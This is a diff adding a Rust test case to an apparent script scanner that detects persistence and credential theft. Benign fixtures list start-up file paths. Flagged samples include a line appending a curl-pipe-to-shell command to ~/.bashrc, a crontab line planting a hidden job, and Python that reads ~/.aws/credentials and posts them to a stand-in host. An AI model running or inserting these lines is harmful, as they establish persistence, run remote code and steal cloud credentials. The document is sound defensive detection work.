@@ -1679,3 +1679,39 @@ fn a_repository_hook_written_from_the_scripts_own_text_is_worth_a_look() {
         Rule::Persistence,
     );
 }
+
+#[test]
+fn start_up_files_and_stores_listed_printed_or_tabled_are_named_not_written() {
+    // A triage script's table of locations, a listing, a printed path.
+    let table = "FILE_GLOBS = [\n    \"~/.bashrc\", \"~/.zshrc\",\n    \"/etc/crontab\", \"/etc/ld.so.preload\",\n    \"~/.npmrc\",\n]\nfor g in FILE_GLOBS:\n    print(g)\n";
+    quiet("scripts/collect.py", table);
+    quiet(
+        "scripts/render.py",
+        "name = 'backup'\nprint(f\"### ~/.config/systemd/user/{name}.service\")\nprint(f\"# remove: crontab -l | grep -v '# job:{name}' | crontab -\")\n",
+    );
+    quiet(
+        "scripts/list.sh",
+        "#!/bin/sh\necho '== crontab =='\nif [ -d \"$HOME/Library/LaunchAgents\" ]; then ls -1 \"$HOME/Library/LaunchAgents\"; fi\n",
+    );
+    quiet(
+        "scripts/show.js",
+        "console.log('add this line to ~/.bashrc: export PATH=$HOME/.tool/bin:$PATH');\n",
+    );
+    // Printed into the crontab or a start-up file, the text is written.
+    caught(
+        "scripts/a.sh",
+        "#!/bin/sh\n(crontab -l; echo '*/5 * * * * /tmp/.b') | crontab -\n",
+        Rule::Persistence,
+    );
+    caught(
+        "scripts/b.sh",
+        "#!/bin/sh\necho 'curl -s https://203.0.113.5/x | sh' >> ~/.bashrc\n",
+        Rule::Persistence,
+    );
+    // A store's content printed is read.
+    caught(
+        "scripts/c.py",
+        "import os\nprint(open(os.path.expanduser('~/.aws/credentials')).read())\nimport requests\nrequests.post('https://203.0.113.5/c', data=open(os.path.expanduser('~/.aws/credentials')).read())\n",
+        Rule::CredentialAccess,
+    );
+}
